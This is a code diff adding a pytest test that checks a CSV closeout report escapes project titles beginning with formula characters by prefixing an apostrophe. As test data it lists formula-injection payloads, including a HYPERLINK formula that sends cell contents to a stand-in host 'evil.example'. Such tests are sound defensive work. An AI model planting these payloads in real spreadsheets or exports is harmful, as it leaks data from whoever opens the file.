@@ -108,6 +108,21 @@ def test_csv_rows_add_up(site):
     assert projects[0]["title"] == "こども食堂"
 
 
+def test_a_title_a_spreadsheet_would_run_is_written_as_text(site):
+    # Titles come from the portal, typed by group editors: opened in Excel, "=HYPERLINK(...)" would be a live link.
+    fill_two_days(site.ledger, site.pepper, site.clock, site.idms)
+    rep = z_report(site.writer, DAY1).data
+    import csv
+    import io
+
+    for title in ('=HYPERLINK("http://evil.example/?"&A2,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"):
+        rows = list(csv.DictReader(io.StringIO(closeout_csv(rep, titles={"kodomo": title}).lstrip("\ufeff"))))
+        [row] = [r for r in rows if r["row"] == "project" and r["key"] == "kodomo"]
+        assert row["title"] == "'" + title
+    rows = list(csv.DictReader(io.StringIO(closeout_csv(rep, titles={"kodomo": "こども食堂 -2"}).lstrip("\ufeff"))))
+    assert [r["title"] for r in rows if r["row"] == "project"][0] == "こども食堂 -2"  # plain text stays as it is
+
+
 def test_timer_run_of_the_cli_closes_every_ended_day(site, capsys):
     from datetime import datetime
     from zoneinfo import ZoneInfo
